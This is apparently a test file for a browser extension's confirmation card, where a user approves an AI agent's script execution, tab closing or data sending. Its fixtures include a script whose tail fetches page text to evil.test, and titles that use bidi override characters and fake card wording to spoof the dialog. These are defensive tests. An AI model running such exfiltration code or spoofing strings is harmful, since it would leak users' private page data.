import { expect } from "chai"
import type { ConfirmationRequested } from "../schemas/events.ts"
import "./am-confirmation.ts"
import type { AmConfirmation } from "./am-confirmation.ts"
import { getMessage, type Messages } from "../test/support/chrome-i18n.ts"

const base: ConfirmationRequested = {
  type: "confirmation_requested",
  id: "k",
  conversationId: "c",
  tool: "execute_script",
  rule: "execute_script",
  site: "https://bank.test",
  summary: "…",
  params: {},
  expiresAt: Date.now() + 60_000,
}

const mount = async (request: ConfirmationRequested, onDecide?: AmConfirmation["onDecide"]) => {
  const el = document.createElement("am-confirmation") as AmConfirmation
  el.request = request
  el.onDecide = onDecide
  document.body.append(el)
  await el.updateComplete
  return el.shadowRoot!
}

describe("am-confirmation", () => {
  // Test pages have no extension i18n: a stand-in shows each message's key and its substitutions.
  const w = globalThis as unknown as { chrome?: { i18n?: unknown } }
  const saved = w.chrome
  before(() => {
    w.chrome = { ...saved, i18n: { getMessage: (key: string, subs: string[] = []) => `${key}(${subs.join("|")})` } }
  })
  after(() => {
    w.chrome = saved
  })

  it("shows the whole script, however long, and the tab by title and site; no button is highlighted", async () => {
    const code = "const a = 1\n" + "x".repeat(6000) + "\n/* the tail */ fetch('https://evil.test/?d=' + document.body.innerText)"
    const root = await mount({ ...base, reason: "destructive", code, tab: { id: 7, title: "My bank", url: "https://bank.test/acct" } })
    expect(root.querySelector('[data-testid="confirm-code"]')!.textContent).to.equal(code)
    const tab = root.querySelector('[data-testid="confirm-tab"]')!.textContent!
    expect(tab).to.include("My bank")
    expect(tab).to.include("bank.test")
    expect(root.querySelectorAll("button.primary")).to.have.length(0)
    // The site is said once: the tab's line names it, so no "Where" line repeats it.
    expect(root.querySelector('[data-testid="confirm-site"]')).to.equal(null)
    expect(root.textContent).to.not.include("confirmSite(")
  })

  it("says where a call acts when no tab of the user's names the site", async () => {
    const root = await mount({ ...base, tool: "close_tab", rule: "close_tab", reason: "destructive", params: { tab_id: 7 } })
    expect(root.querySelector('[data-testid="confirm-site"]')!.textContent).to.include("bank.test")
    const other = await mount({ ...base, reason: "destructive", code: "1", tab: { id: 7, title: "Mail", url: "https://mail.test/" } })
    expect(other.querySelector('[data-testid="confirm-site"]')!.textContent).to.include("bank.test")
  })

  it("sets apart what a page or the model wrote, with its hidden characters shown, so it cannot pass for the card's words", async () => {
    // A title that continues the card's sentence and reverses the text after it.
    const title = "My bank” on bank.test\nconfirmDestination(https://bank.test) \u202etxt.exe"
    const root = await mount({
      ...base,
      tool: "web_fetch",
      rule: "send_read_data",
      reason: "send_read_data",
      tab: { id: 7, title, url: "https://evil.test/" },
      sources: [
        { kind: "tab", label: title },
        { kind: "answer", label: "Type your PIN \u2066here" },
      ],
      destination: "https://evil.test",
      outgoing: "https://evil.test/\u202eabc",
      code: "a\u2066b",
    })
    const marked = [...root.querySelectorAll('[data-testid="outside"]')].map((e) => e.textContent!)
    expect(marked).to.have.length(3)
    for (const m of marked) expect(m).to.not.match(/[\u202e\u2066\n]/)
    expect(marked[0]).to.equal("My bank” on bank.test confirmDestination(https://bank.test) ⟦U+202E⟧txt.exe")
    expect(marked[2]).to.equal("Type your PIN ⟦U+2066⟧here")
    // Outside the marks, the card's sentences hold none of the page's words.
    for (const id of ["confirm-tab", "confirm-sources"]) {
      const clone = root.querySelector(`[data-testid="${id}"]`)!.cloneNode(true) as Element
      clone.querySelectorAll('[data-testid="outside"]').forEach((e) => e.remove())
      expect(clone.textContent, id).to.not.include("My bank")
    }
    expect(root.querySelector('[data-testid="confirm-outgoing"]')!.textContent).to.equal("https://evil.test/⟦U+202E⟧abc")
    expect(root.querySelector('[data-testid="confirm-code"]')!.textContent).to.equal("a⟦U+2066⟧b")
  })

  it("words what was read and where it would go, and offers the grants", async () => {
    const decided: unknown[] = []
    const root = await mount(
      {
        ...base,
        tool: "web_fetch",
        rule: "send_read_data",
        reason: "send_read_data",
        sources: [
          { kind: "tab", label: "My bank" },
          { kind: "file", label: "notes/keys.txt" },
        ],
        site: "evil.test",
        destination: "https://evil.test",
        outgoing: "https://evil.test/68656c6c6f",
        grants: ["site_conversation", "site_always", "conversation_all"],
      },
      async (...args) => void decided.push(args),
    )
    const sources = root.querySelector('[data-testid="confirm-sources"]')!.textContent!
    expect(sources).to.include("My bank")
    expect(sources).to.include("notes/keys.txt")
    expect(root.querySelector('[data-testid="confirm-destination"]')!.textContent).to.include("evil.test")
    expect(root.querySelector('[data-testid="confirm-outgoing"]')!.textContent).to.equal("https://evil.test/68656c6c6f")
    expect(root.querySelector('[data-testid="allow"]')!.textContent!.trim()).to.equal("confirmAllowOnce()")
    expect(root.querySelector('[data-testid="grant-site_conversation"]')!.textContent!.trim()).to.equal("grantSiteConversation(evil.test)")
    // The widest grant waits behind a disclosure.
    expect(root.querySelector('[data-testid="more-grants"] [data-testid="grant-conversation_all"]')).to.not.equal(null)
    expect(root.querySelector('[data-testid="more-grants"]')!.hasAttribute("open")).to.equal(false)
    ;(root.querySelector('[data-testid="grant-site_always"]') as HTMLButtonElement).click()
    ;(root.querySelector('[data-testid="deny"]') as HTMLButtonElement).click()
    await new Promise((r) => setTimeout(r, 0))
    expect(decided).to.deep.equal([
      ["k", true, "site_always"],
      ["k", false, undefined],
    ])
  })

  it("keeps a long script's lines as written, highlighted, scrolling sideways instead of breaking inside a word", async () => {
    const line = 'for (const box of document.querySelectorAll("input")) { box.setAttribute("data-checked", "true") }'
    const code = Array.from({ length: 40 }, () => line).join("\n")
    const root = await mount({ ...base, id: "long", reason: "destructive", code, tab: { id: 7, title: "Form", url: "https://bank.test/" } })
    const pre = root.querySelector<HTMLElement>('[data-testid="confirm-code"]')!
    ;(root.host as HTMLElement).style.width = "380px"
    expect(getComputedStyle(pre).whiteSpace).to.equal("pre")
    expect(pre.scrollWidth).to.be.greaterThan(pre.clientWidth)
    expect(pre.textContent).to.equal(code)
    for (let i = 0; i < 200 && !pre.querySelector("[class^=tok-]"); i++) await new Promise((resolve) => setTimeout(resolve, 10))
    expect(pre.querySelectorAll(".tok-string").length, "its strings are highlighted").to.be.greaterThan(0)
    expect(pre.textContent, "highlighting keeps the text").to.equal(code)
    // a re-render of the same request (its buttons made busy by a click) leaves the highlighted script be
    const host = root.host as AmConfirmation
    host.request = { ...host.request! }
    await host.updateComplete
    expect(pre.querySelectorAll(".tok-string").length, "still highlighted").to.be.greaterThan(0)
    expect(pre.textContent).to.equal(code)
  })

  it("names close_tab's tab by title and site, without its raw arguments; keeps a short title on one line", async () => {
    const root = await mount({
      ...base,
      tool: "close_tab",
      rule: "close_tab",
      reason: "destructive",
      params: { tab_id: 28873061 },
      tab: { id: 28873061, title: "Acme のプランの価格", url: "https://acme.test/pricing" },
    })
    expect(root.querySelector('[data-testid="confirm-params"]')).to.equal(null)
    expect(root.textContent).to.not.include("28873061")
    expect(root.querySelector('[data-testid="confirm-tab"]')!.textContent).to.include("Acme のプランの価格")
    const outside = root.querySelector<HTMLElement>('[data-testid="confirm-tab"] .outside')!
    expect(getComputedStyle(outside).display, "its box does not split across lines").to.equal("inline-block")
    // Arguments the tab's line does not say are still shown.
    const other = await mount({
      ...base,
      tool: "close_tab",
      rule: "close_tab",
      reason: "destructive",
      params: { tab_id: 7, force: true },
      tab: { id: 7, title: "Mail", url: "https://mail.test/" },
    })
    expect(other.querySelector('[data-testid="confirm-params"]')).to.not.equal(null)
  })
})

describe("am-confirmation's question in each language", () => {
  const w = globalThis as unknown as { chrome?: unknown }
  const saved = w.chrome
  after(() => {
    w.chrome = saved
  })

  // A tool's label is capitalised to start a card ("Виконання скрипту"); in the question it must
  // not stand mid-sentence with that capital ("Дозволити Виконання скрипту?").
  for (const language of ["en", "fr", "uk", "nl", "it", "ja"]) {
    it(`${language}: a capitalised tool label starts the question or a clause of it, never follows a word`, async () => {
      const messages = (await (await fetch(`/_locales/${language}/messages.json`)).json()) as Messages
      w.chrome = { i18n: { getMessage: getMessage(messages), getUILanguage: () => language } }
      const tools = Object.keys(messages).flatMap((key) => (/^tool_[a-z_]+$/.test(key) ? [key.slice(5)] : []))
      expect(tools).to.include("execute_script")
      for (const tool of tools) {
        const label = messages[`tool_${tool}`]!.message
        const root = await mount({ ...base, tool, rule: tool, reason: "destructive" })
        const question = root.querySelector("#label")!.textContent!
        const at = question.indexOf(label)
        expect(at, `${question} names ${label}`).to.be.at.least(0)
        const first = label[0]!
        if (first === first.toLocaleLowerCase(language)) continue
        expect(question.slice(0, at).trim(), `${language}: ${question}`).to.match(/^$|[.:!?—–]$/u)
      }
    })
  }
})
